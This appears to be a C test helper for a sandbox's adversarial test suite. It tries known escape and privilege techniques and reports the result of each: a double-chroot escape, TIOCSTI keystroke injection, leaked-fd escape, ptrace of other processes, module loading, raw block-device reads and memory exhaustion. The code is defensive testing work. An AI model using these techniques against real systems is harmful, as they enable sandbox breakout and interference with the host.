/* Attacks run inside a sandbox by tests/adversarial. Built once per test session with
 * the host's gcc as a static binary, so it runs in any image (none of them has a compiler).
 *
 * Every subcommand prints what happened, one line per attempt, as
 *   <attempt>: ok           the call succeeded (for an attack: the defence failed)
 *   <attempt>: <errno name> the call failed
 * and exits 0; the tests read the lines. Nothing here harms the host if a defence is
 * missing: the clock is set to what it already is, the module image is empty, the disk
 * is only read.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void report(const char *what, int result) {
    if (result < 0)
        printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
    else
        printf("%s: ok\n", what);
    fflush(stdout);
}

/* The classic double-chroot escape: chroot into a subdirectory while the working
 * directory stays outside it, walk up with "..", chroot there. */
static int escape(const char *marker) {
    mkdir("/escape-dir", 0755);
    report("chroot-subdir", chroot("/escape-dir"));
    for (int i = 0; i < 256; i++)
        chdir("..");
    report("chroot-dot", chroot("."));
    report("marker-visible", access(marker, F_OK));
    char path[4096];
    snprintf(path, sizeof path, "/proc/1/root%s", marker);
    report("marker-via-proc1-root", access(path, F_OK));
    return 0;
}

/* TIOCSTI: push characters into the input queue of the terminal on fd 0. */
static int tiocsti(const char *text) {
    int failures = 0, first_errno = 0;
    for (const char *c = text; *c; c++) {
        if (ioctl(0, TIOCSTI, c) < 0) {
            if (!failures++)
                first_errno = errno;
        }
    }
    errno = first_errno;
    report("tiocsti", failures ? -1 : 0);
    return 0;
}

/* Every open file descriptor, with what it points at. */
static int fds(void) {
    DIR *dir = opendir("/proc/self/fd");
    if (!dir) {
        report("opendir", -1);
        return 1;
    }
    struct dirent *entry;
    while ((entry = readdir(dir))) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(dir))
            continue;
        char link[300], target[4096] = "";
        snprintf(link, sizeof link, "/proc/self/fd/%s", entry->d_name);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n > 0)
            target[n] = 0;
        printf("fd %s -> %s\n", entry->d_name, target);
    }
    closedir(dir);
    return 0;
}

/* A leaked directory fd (if any) as a way out: fchdir to it and look for the marker. */
static int fd_escape(const char *marker) {
    for (int fd = 3; fd < 1024; fd++) {
        struct stat info;
        if (fstat(fd, &info) == 0 && S_ISDIR(info.st_mode) && fchdir(fd) == 0) {
            for (int i = 0; i < 64; i++)
                chdir("..");
            char path[4096];
            snprintf(path, sizeof path, ".%s", marker);
            report("marker-via-leaked-fd", access(path, F_OK));
            return 0;
        }
    }
    printf("no-directory-fd: ok\n");
    return 0;
}

static int signals(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        pid_t pid = atoi(argv[i]);
        char what[64];
        snprintf(what, sizeof what, "kill-%d", pid);
        report(what, kill(pid, 0));
        snprintf(what, sizeof what, "ptrace-%d", pid);
        report(what, ptrace(PTRACE_ATTACH, pid, 0, 0));
    }
    return 0;
}

static int kernel(void) {
    report("mount-tmpfs", mount("none", "/mnt", "tmpfs", 0, ""));
    report("mount-proc", mount("proc", "/mnt", "proc", 0, ""));
    report("init-module", (int)syscall(SYS_init_module, "", 0UL, ""));
    int fd = open("/dev/null", O_RDONLY);
    report("finit-module", (int)syscall(SYS_finit_module, fd, "", 0));
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    report("clock-settime", clock_settime(CLOCK_REALTIME, &now));
    report("sethostname", sethostname("sandbox", 7));
    report("swapoff", swapoff("/dev/null"));
    return 0;
}

/* mknod a block device and read from it. */
static int disk(const char *path, int major, int minor) {
    report("mknod", mknod(path, S_IFBLK | 0600, makedev(major, minor)));
    int fd = open(path, O_RDONLY);
    report("open-disk", fd);
    if (fd >= 0) {
        char buffer[512];
        report("read-disk", (int)read(fd, buffer, sizeof buffer));
    }
    return 0;
}

/* Write to a file (a /proc knob): the given text, once. */
static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) {
        report("open", -1);
        return 0;
    }
    report("write", (int)write(fd, text, strlen(text)));
    return 0;
}

/* Allocate and touch memory, megabyte by megabyte. */
static int hog(int megabytes) {
    for (int i = 1; i <= megabytes; i++) {
        char *block = malloc(1 << 20);
        if (!block) {
            report("malloc", -1);
            return 1;
        }
        memset(block, i, 1 << 20);
        if (i % 16 == 0) {
            printf("allocated %d MiB\n", i);
            fflush(stdout);
        }
    }
    printf("hog: survived\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: attack escape|tiocsti|fds|fd-escape|signals|kernel|disk|write|hog ...\n");
        return 2;
    }
    const char *what = argv[1];
    if (!strcmp(what, "escape") && argc == 3)
        return escape(argv[2]);
    if (!strcmp(what, "tiocsti") && argc == 3)
        return tiocsti(argv[2]);
    if (!strcmp(what, "fds"))
        return fds();
    if (!strcmp(what, "fd-escape") && argc == 3)
        return fd_escape(argv[2]);
    if (!strcmp(what, "signals"))
        return signals(argc - 2, argv + 2);
    if (!strcmp(what, "kernel"))
        return kernel();
    if (!strcmp(what, "disk") && argc == 5)
        return disk(argv[2], atoi(argv[3]), atoi(argv[4]));
    if (!strcmp(what, "write") && argc == 4)
        return write_file(argv[2], argv[3]);
    if (!strcmp(what, "hog") && argc == 3)
        return hog(atoi(argv[2]));
    fprintf(stderr, "attack: bad arguments\n");
    return 2;
}
